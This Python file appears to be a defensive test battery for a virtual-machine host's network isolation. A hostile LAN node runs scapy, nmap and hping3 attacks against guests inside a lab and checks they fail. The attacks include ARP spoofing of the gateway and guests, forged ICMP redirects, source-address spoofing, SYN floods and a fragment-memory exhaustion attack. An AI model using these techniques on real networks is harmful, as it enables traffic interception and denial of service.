"""To attack guests and host from the LAN: lan2 is hostile."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet, Raw

from vfr_lab.battery import attack
from vfr_lab.battery.stage import ECHO, SSH, Stage
from vfr_lab.battery.starve import beginnings, send_many, sysctl
from vfr_lab.lab import wait_until

UNPUBLISHED = 5432
RANGE = "169.254.1.0/24"


@contextmanager
def _route_to_guests(s: Stage) -> Iterator[None]:
    """lan2 takes the host for its router to the guests."""
    s.lan2.run("ip", "route", "add", RANGE, "via", s.outside)
    try:
        yield
    finally:
        s.lan2.run("ip", "route", "del", RANGE)


def to_host(s: Stage, packet: Packet) -> Packet:
    """A frame from lan2 to the host's MAC."""
    return Ether(src=s.lan2.mac, dst=s.lan2.knows(s.outside)) / packet


@attack("lan", tool="nmap", falls=("bridge", "bridge-filtered"))
def a_scan_behind_the_host(s: Stage) -> list[str]:
    """lan2 scans the guests by their own addresses.

    It takes the host for its router to 169.254.1.0/24, and nmap tries ssh and an unpublished port of each guest. From the
    LAN only the published forwards may lead to a guest: this is the "direct routing" that Docker long left open.
    """
    guests = [g.address for g in s.lab.scenario.guests]
    with _route_to_guests(s), s.db.listen("tcp", UNPUBLISHED):
        s.control("the port is open: domain 0 reaches it", s.dom0.tcp(s.address("db"), UNPUBLISHED))
        options = ("-n", "-Pn", "-sT", "--max-retries", "0", "--host-timeout", "3s", "-oG", "-")
        said = s.lan2.run("timeout", "12", "nmap", *options, "-p", f"{SSH},{UNPUBLISHED}", *guests)
    s.control("nmap has looked at all of them", said.count("Ports:") + said.count("Status: Timeout") >= len(guests))
    return [line for line in said.splitlines() if "/open/" in line]


@attack("lan", tool="scapy", falls="xen1")
def a_datagram_past_the_forwards(s: Stage) -> list[str]:
    """lan2 sends a datagram straight to db's own address.

    To the host's MAC, for an unpublished UDP port of db's. db must not hear it.
    """
    with s.db.listen("udp", UNPUBLISHED) as service:
        s.dom0.udp(s.address("db"), UNPUBLISHED, s.mark + b"own")
        datagram = IP(src=s.address("lan2"), dst=s.address("db")) / UDP(sport=4000, dport=UNPUBLISHED)
        s.lan2.send(to_host(s, datagram / Raw(s.mark + b"lan2's")))
    s.control("the service hears domain 0", service.having(s.mark + b"own"))
    return [f"db hears {heard}" for heard in service.having(s.mark + b"lan2's")]


@attack("lan", tool="hping3", falls="xen1")
def a_ping_past_the_forwards(s: Stage) -> list[str]:
    """lan2 pings db by its own address.

    With a route by the host. db must not even receive it: forwards lead to ssh, and to nothing else.
    """
    with _route_to_guests(s), s.db.watch() as seen:
        s.dom0.udp(s.address("db"), 9, s.mark + b"own")
        options = ("--icmp", "-q", "-c", "3", "-i", "u10000", "-d", "40", "-e", s.mark.decode() + "lan2's")
        s.lan2.run("timeout", "3", "hping3", *options, s.address("db"))
    s.control("db's eyes see what domain 0 says", seen.having(s.mark + b"own"))
    return [f"db received: {f}" for f in seen.having(s.mark + b"lan2's")]


@attack("lan", tool="scapy", falls="xen1")
def an_answer_past_the_translation(s: Stage) -> list[str]:
    """lan2 answers db in lan1's name, by db's own address.

    db has asked lan1 from a port that lan2 knows. The forged answer goes by the host's MAC to db's own address: so it
    need not know the outside port. db must not take it for lan1's.
    """
    with s.db.watch() as seen:
        s.control("db has lan1's answer", s.db.udp(s.address("lan1"), ECHO, own_port=5353))
        forged = IP(src=s.address("lan1"), dst=s.address("db")) / UDP(sport=ECHO, dport=5353) / Raw(s.mark)
        s.lan2.send(to_host(s, forged))
    s.control("db's eyes have seen the true one", seen.having(lambda p: UDP in p and p[UDP].sport == ECHO))
    return [f"db received: {f}" for f in seen.having(s.mark)]


@attack("lan", tool="scapy", falls="xen1")
def a_frame_to_a_guests_mac(s: Stage) -> list[str]:
    """lan2 sends a frame to db's own MAC.

    On the LAN, with a datagram for db's address. Nothing of the LAN's wire may be a guest's wire.
    """
    datagram = IP(src=s.address("lan2"), dst=s.address("db")) / UDP(sport=4000, dport=9)
    with s.db.watch() as seen, s.switch.watch("br0") as wire:
        s.dom0.udp(s.address("db"), 9, s.mark + b"own")
        s.lan2.send(Ether(src=s.lan2.mac, dst=s.db.mac) / datagram / Raw(s.mark + b"lan2's"))
    s.control("the frame is on the LAN", wire.having(s.mark + b"lan2's"))
    s.control("db's eyes see what domain 0 says", seen.having(s.mark + b"own"))
    return [f"db received: {f}" for f in seen.having(s.mark + b"lan2's")]


@attack("lan", tool="scapy", falls="xen1")
def a_broadcast_of_the_lans(s: Stage) -> list[str]:
    """lan2 broadcasts on the LAN, asking for each guest.

    ARP requests for the guests' addresses. No guest may receive them: what it receives it answers, and attackers on the
    LAN would have its neighbour table to play with.
    """
    names = [g.name for g in s.lab.scenario.guests]
    asked = [ARP(hwsrc=s.lan2.mac, psrc=s.address("lan2"), pdst=s.address(n)) / Raw(s.mark) for n in names]
    with s.web.watch() as web, s.db.watch() as db, s.ci.watch() as ci, s.lan1.watch() as lan1:
        s.lan2.send(*(Ether(src=s.lan2.mac, dst="ff:ff:ff:ff:ff:ff") / one for one in asked))
        reached = all(s.dom0.pings(s.address(n)) for n in names)
    s.control("lan1, on the LAN, receives them all", len(lan1.having(s.mark)) == len(names))
    s.control("the guests' eyes see domain 0's pings", reached and web.frames and db.frames and ci.frames)
    return [f"{seen.node} received: {f}" for seen in (web, db, ci) for f in seen.having(s.mark)]


@attack("lan", tool="scapy", falls="xen1")
def a_guests_address_claimed_on_the_lan(s: Stage) -> list[str]:
    """lan2 tells the host that db's address is on the LAN.

    ARP replies from the LAN, with db's address and lan2's MAC. What domain 0 says to db must go to db as before.
    """
    db, claim = s.address("db"), ARP(op=2, hwsrc=s.lan2.mac, psrc=s.address("db"), hwdst=s.dom0.mac, pdst=s.outside)
    with s.db.watch() as before:
        s.dom0.udp(db, 9, b"before " + s.mark, timeout=0.1)
    s.control("db receives what domain 0 says to it before", before.having(b"before " + s.mark))
    with s.dom0.watch() as seen:
        s.lan2.send(to_host(s, claim), times=3, pace_s=0.6)
    s.control("the host has received the claim", seen.having(lambda p: ARP in p and p[ARP].psrc == db))
    with s.db.watch() as heard:
        s.dom0.udp(db, 9, s.mark, timeout=0.1)
    return [] if heard.having(s.mark) else ["db does not receive any more what domain 0 says to it"]


@attack("lan", tool="scapy", falls="xen1")
def the_gateway_claimed_on_the_lan(s: Stage) -> list[str]:
    """lan2 tells web that it is the gateway.

    An ARP reply on the LAN to web's own MAC. web must still find its way out: else anybody on the LAN can take it away.
    """
    lan1 = s.address("lan1")
    s.control("web reaches lan1 before", s.web.udp(lan1, ECHO))
    claim = ARP(op=2, hwsrc=s.lan2.mac, psrc=s.gateway, hwdst=s.web.mac, pdst=s.address("web"))
    with s.switch.watch("br0") as wire:
        s.lan2.send(Ether(src=s.lan2.mac, dst=s.web.mac) / claim, times=3, pace_s=0.6)
    s.control("the claim is on the LAN", wire.having(lambda p: ARP in p and p[ARP].psrc == s.gateway))
    return [] if s.web.udp(lan1, ECHO) else ["web has lost its way out"]


@attack("lan", tool="scapy", falls=("bridge", "bridge-filtered", "xen1"))
def in_a_guests_name_to_the_host(s: Stage) -> list[str]:
    """lan2 speaks to domain 0 in db's name.

    A datagram from the LAN with db's address for its source. A service of domain 0 that trusts its guests must not
    hear it.
    """
    with s.dom0.listen("udp", UNPUBLISHED) as service:
        for source in ("lan2", "db"):
            datagram = IP(src=s.address(source), dst=s.outside) / UDP(sport=4000, dport=UNPUBLISHED)
            s.lan2.send(to_host(s, datagram / Raw(s.mark + source.encode())))
    s.control("the service hears lan2 in its own name", service.having(s.mark + b"lan2"))
    return [f"domain 0 hears {heard}" for heard in service.having(s.mark + b"db")]


@attack("lan", tool="scapy", falls=("bridge", "bridge-filtered"))
def in_a_guests_name_to_a_forward(s: Stage) -> list[str]:
    """lan2 opens a connection to web's ssh in db's name.

    A SYN from the LAN, with db's address for its source, to web's forward. web must not receive it: its sshd may let
    other guests in where it does not let the LAN in.
    """
    forward = s.guest("web").forward
    with s.web.watch() as seen:
        for source in ("lan2", "db"):
            syn = TCP(sport=4000 + len(source), dport=forward, flags="S", seq=77)
            s.lan2.send(to_host(s, IP(src=s.address(source), dst=s.outside) / syn))
    syns = seen.having(lambda p: TCP in p and p[TCP].flags == "S" and p[TCP].seq == 77)
    s.control("lan2's SYN in its own name arrives", any(f.packet[IP].src == s.address("lan2") for f in syns))
    return [f"web received: {f}" for f in syns if f.packet[IP].src == s.address("db")]


@attack("lan", tool="arping", falls=("bridge", "bridge-filtered", "routed"))
def the_range_asked_for_on_the_lan(s: Stage) -> list[str]:
    """lan2 asks the LAN who has the gateway and the guests.

    The host must not say: whom the LAN finds by ARP it can send to, and it learns what there is.
    """
    s.control("the host answers for its own address", s.lan2.ok("arping", "-c1", "-w1", "-I", "eth0", s.outside))
    asked = [s.gateway, *(g.address for g in s.lab.scenario.guests)]
    found = [a for a in asked if s.lan2.ok("arping", "-c1", "-w1", "-I", "eth0", a)]
    return [f"the host answers for {address}" for address in found]


@attack("lan", tool="scapy", falls=("bridge", "bridge-filtered", "routed", "xen1"))
def the_guests_own_services_of_the_host(s: Stage) -> list[str]:
    """lan2 reaches a service that domain 0 has for guests only.

    It listens on the gateway's address, as a resolver for guests does. lan2 sends to that address by the host's MAC,
    and must not be heard: that the address is not on the LAN is all that protects it.
    """
    if f" {s.gateway}/" not in s.dom0.run("ip", "-4", "address", "show"):
        s.control("domain 0 itself does not have the gateway's address", True)
        return []
    with s.dom0.listen("udp", UNPUBLISHED, address=s.gateway) as service:
        s.dom0.udp(s.gateway, UNPUBLISHED, s.mark + b"own")
        datagram = IP(src=s.address("lan2"), dst=s.gateway) / UDP(sport=4000, dport=UNPUBLISHED)
        s.lan2.send(to_host(s, datagram / Raw(s.mark + b"lan2's")))
    s.control("the service hears domain 0", service.having(s.mark + b"own"))
    return [f"domain 0 hears {heard}" for heard in service.having(s.mark + b"lan2's")]


@attack("lan", tool="scapy", falls=("bridge", "bridge-filtered"))
def the_host_as_a_strangers_router(s: Stage) -> list[str]:
    """lan2 has the host forward its packets to the outside.

    To the host's MAC, for inet. A host of guests is nobody else's router: it would carry lan2's traffic past whatever the
    LAN's router does about it. inet must not receive it from there.
    """
    datagram = IP(src=s.address("lan2"), dst=s.address("inet")) / UDP(sport=4000, dport=9)
    honest = Ether(src=s.lan2.mac, dst=s.lan2.knows(s.address("router")))
    with s.inet.watch() as seen:
        s.lan2.send(honest / datagram / Raw(s.mark + b"by the router"))
        s.lan2.send(to_host(s, datagram / Raw(s.mark + b"by the host")))
    s.control("the same by the router arrives", seen.having(s.mark + b"by the router"))
    return [f"inet received by way of the host: {f}" for f in seen.having(s.mark + b"by the host")]


@attack("lan", tool="scapy", falls="routed-lax")
def a_redirect_of_the_hosts_traffic(s: Stage) -> list[str]:
    """lan2 tells the host, in the router's name, that it is the way to inet.

    An ICMP redirect that quotes an answer of the host's to a ping. If the host believes it, what db sends to inet goes by lan2, which
    reads and answers it.
    """
    inet, router = s.address("inet"), s.address("router")
    quote = IP(src=s.outside, dst=inet) / ICMP(type=0, id=1, seq=1)
    lie = IP(src=router, dst=s.outside) / ICMP(type=5, code=1, gw=s.address("lan2")) / quote
    s.control("db reaches inet before", s.db.udp(inet, ECHO))
    try:
        with s.lan2.watch() as seen, s.switch.watch("br0") as wire:
            s.lan2.send(to_host(s, lie), times=4, pace_s=0.02)
            s.db.udp(inet, 9, s.mark, timeout=0.1)
    finally:
        s.dom0.run("ip", "route", "flush", "cache")
    s.control("db's datagram is on the LAN", wire.having(s.mark))
    return [f"lan2 received db's: {f}" for f in seen.having(s.mark)]


@attack("lan", tool="scapy", falls=("bridge", "bridge-filtered", "routed", "xen1"), leaves=True)
def the_memory_for_fragments_filled_from_the_lan(s: Stage) -> list[str]:
    """lan2 sends the host the beginnings of 6,000 datagrams and never their ends.

    4 MiB of them are kept, for the host and its guests alike (Linux's default). Guests' own datagrams in fragments, to
    lan1, must still go out. The host forgets a beginning after a second here, so that the attack ends.
    """
    lan1, data = s.address("lan1"), bytes(3000)
    piece = IP(src=s.address("lan2"), dst=s.outside, id=0, flags="MF") / UDP(sport=4000, dport=9, len=9000)
    like = to_host(s, piece / Raw(bytes(1392)))
    with sysctl(s.dom0, "net.ipv4.ipfrag_time", "1"):
        s.control("db's long datagram is answered before", s.db.udp(lan1, ECHO, data))
        send_many(s.lan2, s, like, beginnings(like, 6000))
        lost = [n.name for n in (s.db, s.ci) if not n.udp(lan1, ECHO, data, timeout=0.2)]
        wait_until(lambda: bool(s.db.udp(lan1, ECHO, data)), "the host's forgetting of fragments")
    return [f"{name}'s datagram in fragments is lost" for name in lost]


@attack("lan", tool="scapy", falls=("vfr", "bridge", "bridge-filtered", "routed", "xen1"), leaves=True)
def a_long_answer_lost(s: Stage) -> list[str]:
    """lan2 sends the host beginnings of datagrams, and lan1's long answers to db are lost.

    As before, but what must still arrive is an answer of 3,000 bytes, in fragments, from lan1 to db.
    """
    lan1, data = s.address("lan1"), s.mark + bytes(3000)
    piece = IP(src=s.address("lan2"), dst=s.outside, id=0, flags="MF") / UDP(sport=4000, dport=9, len=9000)
    like = to_host(s, piece / Raw(bytes(1392)))
    with sysctl(s.dom0, "net.ipv4.ipfrag_time", "1"), s.lan1.listen("udp", 9):
        s.control("db has a long answer before", s.db.udp(lan1, 9, data))
        send_many(s.lan2, s, like, beginnings(like, 6000))
        answered = s.db.udp(lan1, 9, data)
        wait_until(lambda: bool(s.db.udp(lan1, ECHO, data)), "the host's forgetting of fragments")
    return [] if answered else ["lan1's long answer to db is lost"]


@attack("lan", tool="hping3", falls="routed-lax", leaves=True)
def a_flood_of_openings(s: Stage) -> list[str]:
    """lan2 floods db's forward with openings in others' names.

    hping3 sends 3,000 SYNs, each from another address, to the port that leads to db's ssh. lan1 must still be greeted.
    """
    forward = s.guest("db").forward
    assert forward
    s.control("lan1 is greeted before", s.lan1.tcp(s.outside, forward).startswith("SSH-"))
    with s.switch.watch("br0") as wire:
        options = ("-S", "-q", "-i", "u20", "-c", "3000", "--rand-source", "-p", str(forward))
        s.lan2.run("timeout", "5", "hping3", *options, s.outside)
        greeted = [s.lan1.tcp(s.outside, forward, timeout=1).startswith("SSH-") for _ in range(3)]
    s.control("many openings are on the LAN", len(wire.frames) > 1000)
    return [] if all(greeted) else [f"lan1 is greeted {sum(greeted)} of 3 times"]
